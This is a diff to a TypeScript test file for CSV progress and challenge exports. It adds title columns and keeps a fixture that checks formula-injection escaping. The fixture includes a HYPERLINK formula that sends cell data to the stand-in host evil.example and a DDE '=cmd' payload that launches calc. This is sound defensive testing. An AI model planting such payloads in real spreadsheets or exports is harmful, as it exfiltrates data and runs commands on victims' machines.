@@ -127,22 +127,22 @@ function basicPlays(): BuiltEvent[] {
 
 const EXPECTED_PROGRESS = [
   // Newest activity first; a play without a challenge event takes its track's length, as the pages do.
-  "participant_id,user_id,first_name,last_name,email,track_id,track_slug,invite_id,mode,status,challenges_completed,total_challenges,progress_percent,attempts,failed_attempts,skipped_challenges,started_at,completed_at,last_activity_at,time_spent_seconds,custom_parameters,param_cohort,param_crm_id,param_lms_user",
-  "expc_p4,expc_u4,,,,trk_expc_a,export-basics,,platform,started,0,3,,0,0,0,2024-03-01T12:00:00.000Z,,2024-03-01T12:00:00.000Z,0,,,,",
-  'expc_p3,expc_u3,Grace,Hopper,grace@example.com,trk_expc_a,export-basics,expc_inv1,ci,stopped,0,3,0,0,0,0,2024-03-01T11:00:00.000Z,,2024-03-01T11:05:20.000Z,380,"{""cohort"":""fall-2024"",""crm_id"":""0031""}",fall-2024,0031,',
-  "expc_p2,expc_u2,,,,trk_expc_a,export-basics,,embed,in_progress,0,3,0,2,2,2,2024-03-01T10:00:00.000Z,,2024-03-01T10:03:10.000Z,190,,,,",
-  'expc_p1,expc_u1,Ada,Lovelace,ada@example.com,trk_expc_a,export-basics,expc_inv1,platform,completed,3,3,100,4,1,0,2024-03-01T09:00:00.000Z,2024-03-01T09:07:30.000Z,2024-03-01T09:07:30.000Z,450,"{""cohort"":""spring-2024"",""lms_user"":""42""}",spring-2024,,42',
+  "participant_id,user_id,first_name,last_name,email,track_id,track_slug,invite_id,mode,status,challenges_completed,total_challenges,progress_percent,attempts,failed_attempts,skipped_challenges,started_at,completed_at,last_activity_at,time_spent_seconds,custom_parameters,track_title,param_cohort,param_crm_id,param_lms_user",
+  "expc_p4,expc_u4,,,,trk_expc_a,export-basics,,platform,started,0,3,,0,0,0,2024-03-01T12:00:00.000Z,,2024-03-01T12:00:00.000Z,0,,,,,",
+  'expc_p3,expc_u3,Grace,Hopper,grace@example.com,trk_expc_a,export-basics,expc_inv1,ci,stopped,0,3,0,0,0,0,2024-03-01T11:00:00.000Z,,2024-03-01T11:05:20.000Z,380,"{""cohort"":""fall-2024"",""crm_id"":""0031""}",,fall-2024,0031,',
+  "expc_p2,expc_u2,,,,trk_expc_a,export-basics,,embed,in_progress,0,3,0,2,2,2,2024-03-01T10:00:00.000Z,,2024-03-01T10:03:10.000Z,190,,,,,",
+  'expc_p1,expc_u1,Ada,Lovelace,ada@example.com,trk_expc_a,export-basics,expc_inv1,platform,completed,3,3,100,4,1,0,2024-03-01T09:00:00.000Z,2024-03-01T09:07:30.000Z,2024-03-01T09:07:30.000Z,450,"{""cohort"":""spring-2024"",""lms_user"":""42""}",,spring-2024,,42',
 ].map((line) => `${line}\r\n`).join("");
 
 const EXPECTED_CHALLENGES = [
-  "participant_id,user_id,track_id,track_slug,challenge_id,challenge_index,status,started_at,completed_at,last_activity_at,attempts,failed_attempts,skipped,seconds_in_challenge",
-  "expc_p3,expc_u3,trk_expc_a,export-basics,expc_ch1,0,in_progress,2024-03-01T11:00:20.000Z,,2024-03-01T11:00:20.000Z,0,0,false,0",
-  "expc_p2,expc_u2,trk_expc_a,export-basics,expc_ch1,0,skipped,2024-03-01T10:00:05.000Z,,2024-03-01T10:00:35.000Z,1,1,true,30",
-  "expc_p2,expc_u2,trk_expc_a,export-basics,,1,skipped,,,,0,0,true,",
-  "expc_p2,expc_u2,trk_expc_a,export-basics,expc_ch3,2,in_progress,2024-03-01T10:01:10.000Z,,2024-03-01T10:03:10.000Z,1,1,false,120",
-  "expc_p1,expc_u1,trk_expc_a,export-basics,expc_ch1,0,completed,2024-03-01T09:00:10.000Z,2024-03-01T09:02:00.000Z,2024-03-01T09:02:01.000Z,2,1,false,110",
-  "expc_p1,expc_u1,trk_expc_a,export-basics,expc_ch2,1,completed,2024-03-01T09:02:30.000Z,2024-03-01T09:04:30.000Z,2024-03-01T09:04:31.000Z,1,0,false,120",
-  "expc_p1,expc_u1,trk_expc_a,export-basics,expc_ch3,2,completed,2024-03-01T09:05:00.000Z,2024-03-01T09:07:00.000Z,2024-03-01T09:07:01.000Z,1,0,false,120",
+  "participant_id,user_id,track_id,track_slug,challenge_id,challenge_index,status,started_at,completed_at,last_activity_at,attempts,failed_attempts,skipped,seconds_in_challenge,track_title,challenge_title",
+  "expc_p3,expc_u3,trk_expc_a,export-basics,expc_ch1,0,in_progress,2024-03-01T11:00:20.000Z,,2024-03-01T11:00:20.000Z,0,0,false,0,,",
+  "expc_p2,expc_u2,trk_expc_a,export-basics,expc_ch1,0,skipped,2024-03-01T10:00:05.000Z,,2024-03-01T10:00:35.000Z,1,1,true,30,,",
+  "expc_p2,expc_u2,trk_expc_a,export-basics,,1,skipped,,,,0,0,true,,,",
+  "expc_p2,expc_u2,trk_expc_a,export-basics,expc_ch3,2,in_progress,2024-03-01T10:01:10.000Z,,2024-03-01T10:03:10.000Z,1,1,false,120,,",
+  "expc_p1,expc_u1,trk_expc_a,export-basics,expc_ch1,0,completed,2024-03-01T09:00:10.000Z,2024-03-01T09:02:00.000Z,2024-03-01T09:02:01.000Z,2,1,false,110,,",
+  "expc_p1,expc_u1,trk_expc_a,export-basics,expc_ch2,1,completed,2024-03-01T09:02:30.000Z,2024-03-01T09:04:30.000Z,2024-03-01T09:04:31.000Z,1,0,false,120,,",
+  "expc_p1,expc_u1,trk_expc_a,export-basics,expc_ch3,2,completed,2024-03-01T09:05:00.000Z,2024-03-01T09:07:00.000Z,2024-03-01T09:07:01.000Z,1,0,false,120,,",
 ].map((line) => `${line}\r\n`).join("");
 
 // Text chosen to break naive CSV and to trigger spreadsheet formulas.
@@ -159,10 +159,10 @@ const NASTY_PARAMETERS = {
 };
 
 const EXPECTED_QUOTING =
-  "participant_id,user_id,first_name,last_name,email,track_id,track_slug,invite_id,mode,status,challenges_completed,total_challenges,progress_percent,attempts,failed_attempts,skipped_challenges,started_at,completed_at,last_activity_at,time_spent_seconds,custom_parameters," +
+  "participant_id,user_id,first_name,last_name,email,track_id,track_slug,invite_id,mode,status,challenges_completed,total_challenges,progress_percent,attempts,failed_attempts,skipped_challenges,started_at,completed_at,last_activity_at,time_spent_seconds,custom_parameters,track_title," +
   '"param_a,b",param_at,param_city,param_formula,param_list,param_neg,param_note,param_quote,param_tab\r\n' +
   `expc_q1,expc_uq,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")","O""Brien, Jr.",'-dash@example.com,trk_expc_b,export-quoting,,platform,started,0,,,0,0,0,2024-03-02T08:00:00.000Z,,2024-03-02T08:00:00.000Z,0,` +
-  `"{""a,b"":""x"",""at"":""@SUM(A1)"",""city"":""Zürich 東京 🚀"",""formula"":""=cmd|' /C calc'!A0"",""list"":""a,b,c"",""neg"":""-5"",""note"":""line one\\nline two"",""quote"":""say \\""hi\\"""",""tab"":""\\tx""}",` +
+  `"{""a,b"":""x"",""at"":""@SUM(A1)"",""city"":""Zürich 東京 🚀"",""formula"":""=cmd|' /C calc'!A0"",""list"":""a,b,c"",""neg"":""-5"",""note"":""line one\\nline two"",""quote"":""say \\""hi\\"""",""tab"":""\\tx""}",,` +
   `x,'@SUM(A1),Zürich 東京 🚀,'=cmd|' /C calc'!A0,"a,b,c",'-5,"line one\nline two","say ""hi""",'\tx\r\n`;
 
 // More keys than MAX_PARAM_COLUMNS (250), as a visitor adding parameters to an invite URL could.
@@ -236,7 +236,7 @@ describe("GET /api/export/progress.csv", () => {
     expect(params[0]).toBe("param_k000");
     expect(params.at(-1)).toBe("param_k249");
     expect(record).toContain(`"{""k000"":""v0"",`);
-    expect(record).toContain(`""k259"":""v259""}",v0,v1,v2,`);
+    expect(record).toContain(`""k259"":""v259""}",,v0,v1,v2,`);
     expect(record!.endsWith(",v248,v249")).toBe(true);
   });
 
